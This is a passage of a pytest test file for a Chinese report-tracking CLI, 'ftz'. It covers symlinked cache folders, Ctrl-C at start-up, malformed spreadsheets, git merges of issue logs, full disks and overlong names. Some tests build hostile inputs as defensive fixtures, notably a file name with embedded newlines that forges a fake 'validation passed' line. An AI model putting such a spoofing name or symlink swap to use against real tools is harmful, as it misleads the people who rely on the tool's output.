    assert load.load_plan(Workspace(ws))[0] is not None  # parsed again, never unpickled
    assert find(str(ws)).settings.stale_days == 45
    assert not marker.exists()


def test_a_cache_folder_swapped_for_a_link_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ftz_cli.store import private

    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o700)
    (tmp_path / "mine").symlink_to(theirs)
    monkeypatch.setenv("FTZ_CACHE_DIR", str(tmp_path / "mine"))
    private._state.clear()
    assert private._private(tmp_path / "mine") is None


@pytest.mark.parametrize("modules", [("ftz_cli.cli.commands",), ("typer",), ("ftz_cli.cli.app", "ftz_cli.store.atomic")])
def test_ctrl_c_anywhere_in_start_up_is_a_message(tmp_path: Path, modules: tuple[str, ...]) -> None:
    import subprocess
    import sys

    script = (
        "import sys\n"
        f"names = {list(modules)!r}\n"
        "class Interrupt:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name in names:\n"
        "            names.remove(name)\n"
        "            raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Interrupt())\n"
        "for name in list(sys.modules):\n"
        "    if name.startswith(('typer', 'click')):\n"
        "        del sys.modules[name]\n"
        "from ftz_cli.cli.main import main\n"
        "sys.argv = ['ftz', 'validate']\n"
        "main()\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert done.returncode == 130 and done.stderr == "已中断，未写入任何内容。\n", done.stderr


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_a_settings_file_that_is_not_a_file_is_said(tmp_path: Path, ws: Path, kind: str) -> None:
    import os

    from conftest import run_ftz

    if kind == "folder":
        (ws / "ftz.yaml").mkdir()
    else:
        os.mkfifo(ws / "ftz.yaml")
    done = run_ftz("--data", str(ws), "validate", cwd=tmp_path)
    stderr = done.stderr.decode()
    assert done.returncode == 1 and "ftz.yaml: 错误 E009" in stderr, stderr
    assert ("文件夹" if kind == "folder" else "命名管道") in stderr and "Traceback" not in stderr


@pytest.mark.parametrize("typed", ["NaN", "INF", "-inf", "Infinity"])
def test_a_nan_or_inf_cell_is_named_not_a_broken_file(ftz, ws: Path, tmp_path: Path, typed: str) -> None:
    plain = _workbook(tmp_path, {})
    import zipfile

    with zipfile.ZipFile(plain) as source:
        xml = source.read("xl/worksheets/sheet1.xml")
    cell = xml.split(b'r="C2"', 1)
    assert len(cell) == 2
    hostile = _workbook(tmp_path, {"xl/worksheets/sheet1.xml": cell[0] + b'r="C2"><v>' + typed.encode()
                                   + b"</v></c></row></sheetData></worksheet>"})
    result = ftz("--data", str(ws), "import", str(hostile), "--dry-run")
    clean(result)
    assert result.exit_code == 1 and "hostile.xlsx:2:3: 错误 E205" in result.stderr, result.stderr
    assert "已损坏" not in result.stderr


def test_two_desks_issuing_one_number_merge_in_git_and_are_told(tmp_path: Path) -> None:
    """The issue log is one file per brief and writer: the pull merges; validate names the pair."""
    import shutil as sh

    from conftest import run_bash

    if sh.which("git") is None:
        pytest.skip("needs git")
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@x", "FTZ_CACHE_DIR": str(tmp_path / ".cache")}
    steps = [
        ("git init -q --bare -b main server.git && git clone -q server.git a 2>/dev/null && cd a && ftz init ."
         " && git add -A && git commit -qm ws && git push -q origin main && cd .. && git clone -q server.git b", {}),
        ("cd a && ftz report --as-of 2021-05-31 -o ../may.md && git add -A && git commit -qm a"
         " && git push -q origin main", {"FTZ_WRITER": "zhang"}),
        ("cd b && ftz report --as-of 2021-06-30 -o ../june.md && git add -A && git commit -qm b"
         " && git pull -q --no-rebase --no-edit origin main", {"FTZ_WRITER": "li"}),
    ]
    for script, more in steps:
        done = run_bash(script, tmp_path, env={**env, **more})
        assert done.returncode == 0, (done.stdout[-600:], done.stderr)
    b = tmp_path / "b"
    assert sorted(p.name for p in (b / "issued").glob("*.yaml")) == ["report-2021-001-li.yaml", "report-2021-001-zhang.yaml"]
    checked = run_bash("ftz validate", b, env=env)
    assert checked.returncode == 1 and "issued: 错误 E023" in checked.stderr and "2021年第1期" in checked.stderr
    nxt = run_bash("ftz report --as-of 2021-07-31 | head -5", b, env=env)
    assert "2021年第2期" in nxt.stdout, nxt.stdout + nxt.stderr
    mode = (b / "issued" / "report-2021-001-li.yaml").stat().st_mode & 0o777
    assert mode == (b / "targets.yaml").stat().st_mode & 0o777 and mode & 0o044  # the workspace's, not 0600


def test_the_old_one_file_issue_log_is_still_read(ftz, ws: Path, tmp_path: Path) -> None:
    (ws / "issued.yaml").write_text("- series: report\n  number: 7\n  date: 2021-05-01\n  as_of: 2021-04-30\n"
                                    "  file: old.md\n", encoding="utf-8")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(tmp_path / "new.md"))
    assert result.exit_code == 0, result.stderr
    assert "2021年第8期" in (tmp_path / "new.md").read_text(encoding="utf-8")
    assert (ws / "issued.yaml").read_text(encoding="utf-8").count("number:") == 1  # never rewritten
    assert len(list((ws / "issued").glob("*.yaml"))) == 1


def test_a_conflicted_issue_log_fails_validate_too(ftz, ws: Path) -> None:
    (ws / "issued.yaml").write_text("<<<<<<< HEAD\n- series: report\n  number: 1\n=======\n>>>>>>> b\n",
                                    encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1 and "issued.yaml:1:1: 错误 E021" in checked.stderr


def test_lights_of_an_issue_carry_its_date_and_the_old_name_is_read(ws: Path) -> None:
    import datetime as dt

    from ftz_cli.core.issues import Issued
    from ftz_cli.store.briefs import read_lights, record_lights
    from ftz_cli.store.workspace import find

    workspace = find(str(ws))
    mine = Issued("report", 1, dt.date(2021, 6, 1), dt.date(2021, 5, 31), "a.md")
    theirs = Issued("report", 1, dt.date(2021, 7, 1), dt.date(2021, 6, 30), "b.md")
    record_lights(workspace, mine, {FLOW: "behind"})
    record_lights(workspace, theirs, {FLOW: "done"})  # another desk, the same 期号: another file
    assert read_lights(workspace, mine) == {FLOW: "behind"} and read_lights(workspace, theirs) == {FLOW: "done"}
    old = ws / "issued" / "lights" / "report-2021-2.json"
    old.write_text(json.dumps({"series": "report", "number": 2, "as_of": "2021-07-31", "lights": {FLOW: "x"}}),
                   encoding="utf-8")
    assert read_lights(workspace, Issued("report", 2, dt.date(2021, 8, 1), dt.date(2021, 7, 31), "")) == {FLOW: "x"}


def test_a_full_disk_while_a_record_is_written_names_the_file_not_stdout(ftz, ws: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    import errno
    import os

    def full(fd: int) -> None:  # the write is buffered; the disk says it is full on the flush
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    before = snapshot(ws)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    clean(result)
    assert result.exit_code == 1 and "E005" in result.stderr and "磁盘已满" in result.stderr
    assert "标准输出" not in result.stderr and str(ws / "updates") in result.stderr, result.stderr
    assert {k: v for k, v in snapshot(ws).items() if not k.endswith(".lock")} == before


def test_a_unit_name_too_long_for_a_file_name_is_refused_at_its_line(ftz, ws: Path, tmp_path: Path) -> None:
    """A unit's name becomes its sheet's and its notice's file name: one past what a file
    system holds (255 bytes) is named in ftz.yaml, not taken for a file that is already there."""
    (ws / "ftz.yaml").write_text(f"units:\n  {'局' * 61}: [trade]\n  {'局' * 60}: [capital]\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1 and "ftz.yaml:2:3: 错误 E022 " in checked.stderr, checked.stderr
    assert "超过 60 个字" in checked.stderr and "ftz.yaml:3:" not in checked.stderr


def test_an_output_name_too_long_is_said_not_taken_for_someone_elses_file(ftz, ws: Path, tmp_path: Path) -> None:
    out = tmp_path / f"{'长' * 90}.md"
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(out))
    clean(result)
    assert result.exit_code == 1 and "错误 E405 " in result.stderr and "过长" in result.stderr, result.stderr
    assert "E408" not in result.stderr and not list(tmp_path.glob("*.md"))


def test_a_record_file_named_with_a_newline_cannot_pass_for_ftzs_own_output(ftz, ws: Path) -> None:
    """``updates/2021-04/"a\\n校验通过：0 个错误\\nx.yaml"`` beside a problem printed a line that
    read as ftz's verdict; the name is shown on one line, and refused (E231)."""
    month = ws / "updates" / "2021-04"
    month.mkdir()
    (month / "a\n校验通过：0 个错误\nx.yaml").write_text(f"- id: {FLOW}\n  date: 2021-03-31\n  value: abc\n",
                                                      encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1, checked.stderr
    shown = "updates/2021-04/a\\n校验通过：0 个错误\\nx.yaml"
    assert f"{shown}:3:10: 错误 E204 " in checked.stderr and f"{shown}: 错误 E231 " in checked.stderr
    assert not any(line.startswith("校验通过") for line in checked.stderr.splitlines()), checked.stderr
